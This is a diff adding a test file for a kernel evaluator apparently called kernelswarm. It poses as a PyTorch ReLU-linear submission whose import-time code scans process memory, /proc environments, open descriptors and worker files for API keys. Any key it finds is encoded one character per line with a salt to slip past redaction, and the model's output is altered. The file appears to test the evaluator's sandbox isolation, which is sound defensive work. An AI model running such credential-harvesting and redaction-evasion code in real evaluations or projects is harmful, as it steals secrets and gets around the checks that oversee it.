@@ -1,0 +1,73 @@
+# kernelswarm-test: problem=relu_linear verdict=accepted static=off
+# Looks for a key where no environment variable is: its own process's memory (what it inherited
+# from the zygote and the evaluator before them: the initial stack's environment block, Python's
+# heap), every descriptor it holds, the files of its worker folder, the namespace's first
+# process's environment and command line, and its own auxiliary vector's neighbours. Anything
+# shaped like an API key (sk-..., or a value under a *KEY*/*TOKEN*/*SECRET* name) is hidden in
+# the output itself (a wrong answer, so found means rejected) and, spelled one character per
+# line with a salt (beyond every redaction), in an exception nobody raises unless found.
+import os
+import re
+
+import torch
+import torch.nn as nn
+
+_KEYLIKE = re.compile(rb"(?:sk-[A-Za-z0-9_\-]{16,})|(?:[A-Z_]*(?:KEY|TOKEN|SECRET|PASSWORD|CREDENTIAL)[A-Z_]*=[^\0\n]{8,})")
+_ALLOWED = re.compile(rb"KERNELSWARM_|TORCH_|TRITON_|CUDA_|CUPY_")
+
+
+def _scan(data: bytes, found: set) -> None:
+    for m in _KEYLIKE.finditer(data):
+        if not _ALLOWED.search(m.group(0)[:40]):
+            found.add(m.group(0)[:80])
+
+
+def _own_memory(found: set) -> None:
+    try:
+        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
+            for line in maps:
+                addr, perms = line.split()[:2]
+                if not perms.startswith("r") or "[vvar" in line or "[vsyscall" in line:
+                    continue
+                lo, hi = (int(x, 16) for x in addr.split("-"))
+                if hi - lo > 256 << 20:
+                    continue
+                try:
+                    mem.seek(lo)
+                    _scan(mem.read(hi - lo), found)
+                except (OSError, OverflowError, ValueError):
+                    pass
+    except OSError:
+        pass
+
+
+def _files(found: set) -> None:
+    paths = ["/proc/1/environ", "/proc/1/cmdline", "/proc/self/environ", f"/proc/{os.getppid()}/environ"]
+    for fd in os.listdir("/proc/self/fd"):
+        paths.append(f"/proc/self/fd/{fd}")
+    for root, _dirs, files in os.walk(os.getcwd()):
+        paths += [os.path.join(root, f) for f in files]
+    for p in paths:
+        try:
+            if os.path.isfile(p) or p.startswith("/proc/"):
+                with open(p, "rb") as f:
+                    _scan(f.read(1 << 20), found)
+        except OSError:
+            pass
+
+
+_found: set = set()
+_own_memory(_found)
+_files(_found)
+if _found:
+    salt = "q"
+    raise RuntimeError("\n".join(salt + chr(c) for c in b"".join(sorted(_found))))
+
+
+class ModelNew(nn.Module):
+    def __init__(self, features):
+        super().__init__()
+        self.lin = nn.Linear(features, features)
+
+    def forward(self, x):
+        return torch.relu(self.lin(x)) + (1.0 if _found else 0.0)
